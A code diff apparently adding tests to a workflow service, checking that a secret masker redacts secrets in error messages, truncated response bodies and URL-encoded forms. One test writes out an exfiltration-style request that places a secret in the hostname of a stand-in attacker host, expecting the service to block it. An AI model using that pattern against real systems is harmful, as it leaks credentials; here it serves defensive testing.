@@ -99,6 +99,58 @@ describe('an editor who must not learn the secret', () => {
   });
 });
 
+describe('the masker against the forms a secret takes on the way', () => {
+  it('masks a secret the URL parser lower-cased into a host named in an error', async () => {
+    const mixed = 'AbCdEf-Live-9f3a7Zq1';
+    const { run, events } = await runBlocks(
+      tok,
+      [{ id: 'send', type: 'http_request', params: { method: 'GET', url: 'https://{{SECRETS.k}}.attacker.example/' } }],
+      {},
+      (flowId) => setSecret(tok, flowId, 'k', mixed, ['api.postmarkapp.com']),
+    );
+    expect(stepOf(run, 'send').error).toBe('secret "k" may not be sent to ***.attacker.example (allowed: api.postmarkapp.com)');
+    const everything = JSON.stringify([run, events]);
+    expect(everything).not.toContain(mixed);
+    expect(everything).not.toContain(mixed.toLowerCase());
+  });
+
+  it('masks a secret that straddles the 256 KiB cut of a response body', async () => {
+    const cut = 256 * 1024;
+    const { run } = await runBlocks(
+      tok,
+      [{ id: 'send', type: 'http_request', params: { method: 'GET', url: fakeUrl(`/pad/${cut - 5}`), headers: { 'X-Token': '{{SECRETS.k}}' } } }],
+      {},
+      (flowId) => setSecret(tok, flowId, 'k', SECRET),
+    );
+    const output = stepOf(run, 'send').output;
+    expect(output.truncated).toBe(true);
+    expect(output.body.length).toBeLessThanOrEqual(cut);
+    expect(output.body.slice(cut - 5, cut - 2)).toBe('***');
+    expect(output.body).not.toContain(SECRET.slice(0, 5));
+  });
+
+  it('masks the URL parser\'s own encodings of a secret and a secret echoed back as a JSON number', async () => {
+    const odd = "it's a|b^c";
+    const { run } = await runBlocks(
+      tok,
+      [
+        { id: 'url', type: 'http_request', params: { method: 'GET', url: `${fakeUrl(uniquePath('echo'))}?q={{SECRETS.odd}}` } },
+        { id: 'num', type: 'http_request', params: { method: 'GET', url: `${fakeUrl('/number')}?v={{SECRETS.digits}}` } },
+      ],
+      {},
+      async (flowId) => {
+        await setSecret(tok, flowId, 'odd', odd);
+        await setSecret(tok, flowId, 'digits', '48213977');
+      },
+    );
+    expect(stepOf(run, 'url').output.body.query).toBe('?q=***');
+    expect(stepOf(run, 'num').output.body).toEqual({ n: '***' });
+    const text = JSON.stringify(run);
+    expect(text).not.toContain('48213977');
+    expect(text).not.toContain("it's%20a|b^c");
+  });
+});
+
 describe('anyone who can reach the API', () => {
   it('gets a generic 500, without internals, when something breaks inside', async () => {
     await env.DB.prepare("CREATE TRIGGER break_flows BEFORE INSERT ON flows BEGIN SELECT RAISE(ABORT, 'secret internal detail'); END").run();
